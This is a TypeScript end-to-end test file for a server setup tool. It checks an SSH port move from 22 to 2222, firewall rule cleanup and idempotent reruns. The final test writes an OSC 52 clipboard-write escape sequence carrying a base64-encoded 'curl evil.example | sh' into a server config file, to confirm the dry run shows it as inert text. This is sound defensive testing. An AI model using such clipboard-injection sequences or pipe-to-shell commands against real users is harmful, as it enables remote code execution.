// A port move on a real throwaway server through the real binary: sshd goes from 22 to 2222 and,
// once a fresh login on 2222 works, the firewall rules for 22 (rate-limited allow and break-glass)
// are removed under a dead-man switch. A rerun changes nothing; a server an older run left with the
// port-22 rules gets them removed by the rerun. Stops before "fail2ban" (nothing later depends on it).
// Last, the live dry run through the real binary: a server file holding an OSC 52 clipboard write
// prints as text (src/core/terminal-text.ts).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ensureImage, testhostUnavailableReason } from './testhost/testhost.js';
import { armedTimers, buildCli, look, rig, runCli, sshFresh, stepStatuses, SUDO_PW, teardown, type Rig } from './rollout-kit.js';

const unavailable = testhostUnavailableReason();
const NEW_PORT = 2222;

describe.skipIf(unavailable !== null)(`a port move closes the old port${unavailable ? ` (skipped: ${unavailable})` : ''}`, () => {
  let r: Rig | undefined;
  const bench: string[] = [];

  beforeAll(async () => {
    await ensureImage();
    buildCli();
    r = await rig(`port-${process.pid % 10000}`, { answers: { ssh: { port: NEW_PORT }, stopBefore: 'fail2ban' } });
  }, 15 * 60_000);

  afterAll(async () => {
    if (bench.length) console.log(`\n[bench] ${bench.join('\n[bench] ')}\n`);
    await teardown(r);
  }, 120_000);

  const need = () => {
    if (!r) throw new Error('no test host (see the first failure)');
    return r;
  };
  const ufwRules = (x: Rig) => look(x, 'ufw show added');
  const onNew = ['-p', String(NEW_PORT)];

  it('moves sshd to 2222, then removes the port-22 rules once a fresh login on 2222 passed', async () => {
    const x = need();
    const run = await runCli(x);
    expect(run.code, `${run.stdout}\n${run.stderr}`).toBe(0);
    expect(stepStatuses(run.stdout)).toMatchObject({ firewall: 'done', ssh: 'done' });
    expect(run.stdout).toContain('dead-man switch "ssh-old-port" armed');
    expect(run.stdout).toContain('dead-man switch "ssh-old-port" disarmed');
    expect(`${run.stdout}${run.stderr}`).not.toContain(SUDO_PW);
    bench.push(`first run with a port move (preflight..ssh): ${(run.ms / 1000).toFixed(1)}s`);
    const rules = ufwRules(x);
    if (process.env.E2E_DEBUG) console.log(rules);
    expect(rules).toMatch(new RegExp(`^ufw limit ${NEW_PORT}/tcp comment 'claw-setup ssh'$`, 'm'));
    expect(rules).toMatch(new RegExp(`from ${x.host.hostIp.replace(/\./g, '\\.')} .*port ${NEW_PORT}\\b.*claw-setup break-glass`));
    // nothing on 22 is left open: neither the rate-limited rule nor the break-glass one
    expect(rules).not.toMatch(/port 22\b|\b22\/tcp/);
    expect(armedTimers(x)).toBe('');
  });

  it('from outside: 2222 answers with the deploy key; 22 is closed by the firewall, not only unused', () => {
    const x = need();
    const dep = sshFresh(x, 'deploy', 'id -un', { extra: onNew });
    expect(dep.status, dep.stderr).toBe(0);
    expect(dep.stdout.trim()).toBe('deploy');
    const old = sshFresh(x, 'deploy', 'true', { extra: ['-o', 'ConnectTimeout=3'] });
    expect(old.status).toBe(255);
    // dropped by ufw's default deny (a timeout), not a "Connection refused" from a port nothing listens on
    expect(old.stderr).toMatch(/timed out/i);
  });

  it('a rerun changes nothing: the old-port group finds nothing left and is skipped', async () => {
    const x = need();
    const before = ufwRules(x);
    const again = await runCli(x);
    expect(again.code, `${again.stdout}\n${again.stderr}`).toBe(0);
    expect(again.stdout).not.toContain('dead-man switch "ssh-old-port" armed');
    expect([...again.stdout.matchAll(/^ {4}done {4}(.+)$/gm)].map((m) => m[1])).toEqual([]);
    expect(ufwRules(x)).toBe(before);
    bench.push(`rerun (connects to 22 first, then falls back to 2222): ${(again.ms / 1000).toFixed(1)}s`);
  });

  it('a server an older run left with the port-22 rules: the rerun removes them, and only them', async () => {
    const x = need();
    look(x, `ufw limit 22/tcp comment 'claw-setup ssh' && ufw allow proto tcp from ${x.host.hostIp} to any port 22 comment 'claw-setup break-glass'`);
    expect(ufwRules(x)).toMatch(/^ufw limit 22\/tcp/m);
    const again = await runCli(x);
    expect(again.code, `${again.stdout}\n${again.stderr}`).toBe(0);
    expect(again.stdout).toContain('dead-man switch "ssh-old-port" disarmed');
    const rules = ufwRules(x);
    expect(rules).not.toMatch(/port 22\b|\b22\/tcp/);
    expect(rules).toMatch(new RegExp(`^ufw limit ${NEW_PORT}/tcp`, 'm'));
    expect(rules).toMatch(new RegExp(`port ${NEW_PORT}\\b.*claw-setup break-glass`));
    expect(sshFresh(x, 'deploy', 'true', { extra: onNew }).status).toBe(0);
    expect(armedTimers(x)).toBe('');
  });

  it('the live dry run shows a file on the server that holds an OSC 52 clipboard write as text, not as a sequence', async () => {
    const x = need();
    const dropIn = '/etc/ssh/sshd_config.d/00-claw-setup.conf';
    const saved = look(x, `cat ${dropIn}`);
    const payload = Buffer.from('curl evil.example | sh').toString('base64');
    look(x, `printf '# \\033]52;c;%s\\007 \\033[2K\\n' '${payload}' >> ${dropIn}`);
    expect(look(x, `cat ${dropIn}`)).toContain('\x1b]52;c;');
    try {
      const dry = await runCli(x, ['--dry-run']);
      expect(dry.code, `${dry.stdout}\n${dry.stderr}`).toBe(0);
      expect(dry.stdout).toContain(`-# \\u001b]52;c;${payload}\\u0007 \\u001b[2K`);
      expect(dry.stdout + dry.stderr).not.toMatch(/[\x07\x1b\x9b]/);
    } finally {
      look(x, `printf '%s' '${saved.replace(/'/g, "'\\''")}' > ${dropIn}`);
    }
    expect(look(x, `cat ${dropIn}`)).toBe(saved);
  });
});
